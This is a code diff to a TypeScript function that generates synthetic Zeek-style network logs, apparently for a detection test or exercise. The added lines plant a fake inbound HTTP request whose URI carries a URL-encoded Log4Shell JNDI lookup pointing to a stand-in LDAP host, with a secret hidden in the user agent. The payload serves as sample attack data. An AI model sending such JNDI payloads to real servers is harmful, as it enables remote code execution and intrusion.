@@ -113,7 +113,7 @@ function telemetry(world: World, member: PlannedMember, met: readonly string[], 
   const ts = world.clock.nowUs() / 1e6 - 60;
   const inside = `${(member.networks[0] ?? "").replace(/\.0\.0\/16$/, "")}.2.${17 + batch}`;
   const secret = member.exposures[0]?.value ?? "";
-  const lines = met.map((value, at) => {
+  const lines: object[] = met.map((value, at) => {
     const start = { ts: ts + at, uid: `C${batch}${at}`, "id.orig_h": inside, "id.orig_p": 50_000 + at };
     if (/^http/.test(value)) {
       const { host, pathname } = new URL(value);
@@ -125,6 +125,21 @@ function telemetry(world: World, member: PlannedMember, met: readonly string[], 
     const dns = { "id.resp_h": inside.replace(/\d+$/, "53"), "id.resp_p": 53, proto: "udp", query: value };
     return { _path: "dns", ...start, ...dns };
   });
+  // Somebody outside asks each that sends for what a rule knows.
+  if (batch === 0)
+    lines.push({
+      _path: "http",
+      ts: ts + met.length,
+      uid: "Cx",
+      "id.orig_h": "192.0.2.200",
+      "id.orig_p": 40_000,
+      "id.resp_h": inside,
+      "id.resp_p": 80,
+      method: "GET",
+      host: member.name,
+      uri: "/?x=%24%7Bjndi:ldap://192.0.2.201/a%7D",
+      user_agent: `Updater of ${secret}`,
+    });
   return `${[...lines.map((line) => JSON.stringify(line)), `{"_path":"conn" broken ${secret}`].join("\n")}\n`;
 }
 
